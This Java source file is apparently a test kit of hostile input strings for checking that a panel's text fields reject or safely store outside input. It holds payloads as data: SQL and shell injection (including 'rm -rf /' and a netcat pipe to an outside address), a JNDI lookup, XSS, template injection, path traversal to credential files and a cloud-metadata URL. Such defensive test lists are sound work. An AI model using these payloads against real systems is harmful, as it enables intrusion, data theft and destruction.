package dev.npanel.testkit.hostile;

import java.util.List;
import java.util.stream.Stream;

/**
 * What strangers send where a name, an address or a word is expected. For tests of every field that takes text from outside:
 * each of these has to be refused by type, or kept and given back as it is, and nothing else may come of it.
 */
public final class HostileStrings {
    /** More than any field takes. */
    public static final String LONG = "a".repeat(65_536);

    private static final List<String> INVISIBLE = List.of(
            "\u0000",
            "example.com\u0000.evil.org",
            "a\nb",
            "a\r\nSet-Cookie: x=1",
            "a\tb",
            "\u001b[31mred",
            "\u007f",
            "\u0085",
            "a\u2028b",
            "a\u2029b",
            "zero\u200bwidth",
            "\u202egnp.exe",
            "\u2066isolate",
            "\ufeffbom",
            "\ud800");

    private static final List<String> QUOTING = List.of(
            "'",
            "\"",
            "`",
            "\\",
            "\\\\",
            "''",
            "\"\"",
            "a'b\"c\\d;-- %_",
            "' OR '1'='1",
            "1; DROP TABLE account; --",
            "x' UNION SELECT password FROM account --",
            "$(id)",
            "`id`",
            "; rm -rf /",
            "| nc 10.0.0.1 4444",
            "&& reboot",
            "${jndi:ldap://192.0.2.1/a}",
            "{{7*7}}",
            "%s%n%x",
            "%00",
            "%0d%0a",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "*)(uid=*",
            "--pipemess",
            "-rf",
            "@include",
            "#{7*7}");

    private static final List<String> PATHS = List.of(
            "../",
            "../../etc/passwd",
            "..\\..\\windows",
            "/etc/shadow",
            "file:///etc/passwd",
            "http://169.254.169.254/",
            ".",
            "..",
            "/",
            "a/../../b",
            "CON",
            "$INCLUDE /etc/passwd",
            "$GENERATE 1-4294967295 a$ A 192.0.2.1");

    private static final List<String> LOOK_ALIKES = List.of(
            "\u0435xample.com",
            "ex\uff41mple.com",
            "example\u3002com",
            "stra\u00dfe.de",
            "xn--",
            "xn--a",
            "xn--80ak6aa92e.com.",
            "\u0661\u0662",
            "\u2460",
            "\u200d\u0915",
            "\u05d0b\u05d1.com",
            "\ud83d\ude00",
            "e\u0301xample.com");

    private static final List<String> SHAPES = List.of(
            "",
            " ",
            "   ",
            "null",
            "true",
            "NaN",
            "-1",
            "0x7f000001",
            "1e309",
            "99999999999999999999",
            "[]",
            "{}",
            "..example.com",
            "example..com",
            "-example.com",
            "example-.com",
            "a.".repeat(200),
            "a".repeat(64) + ".com",
            LONG,
            "\u00e9".repeat(5_000),
            "\\000",
            "\\256",
            "\\9",
            "(",
            ")",
            ";",
            "1.2.3.4",
            "::1",
            "0:0:0:0:0:ffff:127.0.0.1");

    private HostileStrings() {}

    /** All of them. */
    public static Stream<String> all() {
        return Stream.of(INVISIBLE, QUOTING, PATHS, LOOK_ALIKES, SHAPES).flatMap(List::stream);
    }

    /** Those that have a control character, an invisible one or half a character in them: no field at all takes them. */
    public static Stream<String> invisible() {
        return INVISIBLE.stream();
    }
}
